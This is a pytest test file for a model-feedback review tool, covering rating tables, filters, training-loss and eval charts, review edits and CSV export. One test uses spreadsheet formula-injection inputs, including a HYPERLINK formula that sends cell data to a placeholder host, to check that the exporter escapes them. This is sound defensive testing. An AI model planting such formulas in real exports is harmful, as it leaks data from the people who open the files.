"""Review tables and chart builders: what the Feedback and Metrics pages show."""

from __future__ import annotations

from pathlib import Path

from dmac_core.logs.store import LearningStore
from dmac_core.views.charts import eval_metrics_frame, events_frame, loss_figure, version_metrics_figure
from dmac_core.views.review import filter_review, rating_summary, review_table


def seeded_store(tmp_path: Path) -> LearningStore:
    store = LearningStore(tmp_path, fsync=False)
    a = store.append_interaction(model="gemini", prompt="p1", response="r1", ts="2026-10-03T10:00:00Z")
    b = store.append_interaction(model="deepseek", prompt="p2", response="r2", model_version="v0001")
    store.append_interaction(model="gemini", prompt="p3", response="", error="HTTP 500")
    store.append_feedback(interaction_id=a.id, rating=2, feedback="too vague", user="ana")
    store.append_feedback(interaction_id=a.id, rating=5, feedback="fixed my mind", user="ana")  # supersedes
    store.append_feedback(interaction_id=b.id, rating=3, user="bo")
    store.append_feedback(prompt="alone?", response="yes, alone", rating=4, user="cy")
    return store


def test_review_table_joins_latest_ratings_and_skips_failed_attempts(tmp_path: Path) -> None:
    table = review_table(seeded_store(tmp_path))
    assert len(table) == 3  # two answers + one stand-alone rating; the failed attempt is left out
    by_prompt = {row["prompt"]: row for row in table.to_dict("records")}
    assert by_prompt["p1"]["rating"] == 5 and by_prompt["p1"]["feedback"] == "fixed my mind"
    assert by_prompt["p1"]["month"] == "2026-10"
    assert by_prompt["p2"]["rated_by"] == "bo" and by_prompt["p2"]["model_version"] == "v0001"
    assert by_prompt["alone?"]["model"] == "(given as prompt + response)"


def test_filters_and_summary(tmp_path: Path) -> None:
    table = review_table(seeded_store(tmp_path))
    assert list(filter_review(table, models=["gemini"])["prompt"]) == ["p1"]
    assert list(filter_review(table, months=["2026-10"])["prompt"]) == ["p1"]
    assert sorted(filter_review(table, ratings=[5, 3])["prompt"]) == ["p1", "p2"]
    assert filter_review(table, ratings=["unrated"]).empty
    summary = rating_summary(table).set_index("model")
    assert summary.loc["gemini", "mean_rating"] == 5.0 and summary.loc["deepseek", "rated"] == 1


def test_empty_store_gives_empty_tables(tmp_path: Path) -> None:
    table = review_table(LearningStore(tmp_path, fsync=False))
    assert table.empty and "rating" in table.columns
    assert rating_summary(table).empty


def test_loss_chart_has_train_and_validation_series() -> None:
    events = [
        {"event": "step", "step": 1, "train_loss": 2.0},
        {"event": "step", "step": 2, "train_loss": 1.5},
        {"event": "eval", "step": 2, "eval_loss": 1.7, "eval_token_accuracy": 0.4},
    ]
    frame = events_frame(events)
    assert set(frame["series"]) == {"train loss", "validation loss", "token accuracy"}
    figure = loss_figure(events)
    assert [trace.name for trace in figure.data] == ["train loss", "validation loss"]
    assert list(figure.data[0].y) == [2.0, 1.5]


def test_version_metrics_figure_uses_latest_eval_per_version(tmp_path: Path) -> None:
    store = LearningStore(tmp_path, fsync=False)
    store.append_eval(model="deepseek", model_version="base", suite="heldout", n=2, metrics={"rougeL": 0.1, "bleu": 3})
    store.append_eval(model="deepseek", model_version="v0001", suite="heldout", n=2, metrics={"rougeL": 0.2})
    store.append_eval(model="deepseek", model_version="v0001", suite="heldout", n=2, metrics={"rougeL": 0.4})
    frame = eval_metrics_frame(store.evals())
    figure = version_metrics_figure(frame, ("rougeL",))
    assert list(figure.data[0].x) == ["deepseek@base", "deepseek@v0001"]
    assert list(figure.data[0].y) == [0.1, 0.4]


def test_review_edits_write_superseding_records_and_corrections(tmp_path: Path) -> None:
    import pytest

    from dmac_core.logs.records import RecordError
    from dmac_core.views.review import analyst_counts, apply_review_edits

    store = seeded_store(tmp_path)
    before = review_table(store)
    after = before.copy()
    p2 = after.index[after["prompt"] == "p2"][0]
    after.loc[p2, "rating"] = 1
    after.loc[p2, "correction"] = "The right answer to p2."
    assert apply_review_edits(store, before, after, user="dee") == 1
    newest = store.records("feedback")[-1]
    assert (newest["rating"], newest["correction"], newest["user"]) == (1, "The right answer to p2.", "dee")
    assert newest["interaction_id"] == before.loc[p2, "interaction_id"]
    assert apply_review_edits(store, before, before.copy(), user="dee") == 0  # nothing changed, nothing written

    broken = before.copy()
    broken.loc[p2, "rating"] = None
    broken.loc[p2, "feedback"] = "note without rating"
    with pytest.raises(RecordError, match="give a rating"):
        apply_review_edits(store, before, broken, user="dee")

    counts = analyst_counts(review_table(store)).set_index("analyst")
    assert counts.loc["dee", "corrections"] == 1 and counts.loc["ana", "rated"] == 1


def test_review_shows_attached_images(tmp_path: Path) -> None:
    from dmac_core.views.review import attached_images

    store = LearningStore(tmp_path, fsync=False)
    store.append_interaction(model="gemini", prompt="what is in the picture?", response="a cat", images=["a" * 64 + ".png"])
    store.append_interaction(model="gemini", prompt="no picture", response="ok")
    table = review_table(store)
    assert attached_images(table) == [("what is in the picture?", "a" * 64 + ".png")]


def test_csv_downloads_open_as_text_in_a_spreadsheet() -> None:
    import pandas as pd

    from dmac_core.views.csv_export import csv_bytes

    frame = pd.DataFrame({"prompt": ["=HYPERLINK(\"http://x/?\"&A1)", "+1+1", "-2", "@SUM(A1)", "plain", None],
                          "rating": [5, 4, 3, 2, 1, 5]})
    rows = csv_bytes(frame).decode("utf-8").splitlines()
    assert rows[0] == "prompt,rating"
    assert rows[1].startswith('"\'=HYPERLINK(') and rows[2] == "'+1+1,4" and rows[3] == "'-2,3"
    assert rows[4] == "'@SUM(A1),2" and rows[5] == "plain,1" and rows[6] == ",5"
    assert frame["prompt"][0].startswith("=")  # the page's own table is left as it was


def test_the_runs_table_counts_votes_apart_from_ratings() -> None:
    from dmac_core.views.review import runs_table

    runs = [{"run_id": "r2", "method": "dpo", "lineage": {"counts": {"dpo": 5, "dpo_eval": 1, "dpo_from_votes": 2},
                                                          "vote_ids": ["v1", "v2", "v3"]}},
            {"run_id": "r1", "method": "sft"}]  # a run from before votes: nothing to count
    table = runs_table(runs)
    assert table.loc[0, ["examples", "votes", "dpo from votes"]].tolist() == [6, 3, 2]
    assert table.loc[1, ["votes", "dpo from votes"]].isna().all()
